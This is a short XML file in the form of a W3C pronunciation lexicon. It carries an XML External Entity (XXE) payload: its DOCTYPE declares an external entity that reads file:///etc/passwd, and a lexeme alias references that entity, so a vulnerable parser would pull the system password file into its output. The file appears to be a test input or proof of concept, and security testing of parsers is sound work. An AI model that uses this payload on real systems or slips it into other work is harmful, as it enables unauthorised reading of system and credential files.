<?xml version="1.0"?>
<!DOCTYPE lexicon [<!ENTITY users SYSTEM "file:///etc/passwd">]>
<lexicon version="1.0" xmlns="http://www.w3.org/2005/01/pronunciation-lexicon">
  <lexeme><grapheme>users</grapheme><alias>&users;</alias></lexeme>
</lexicon>
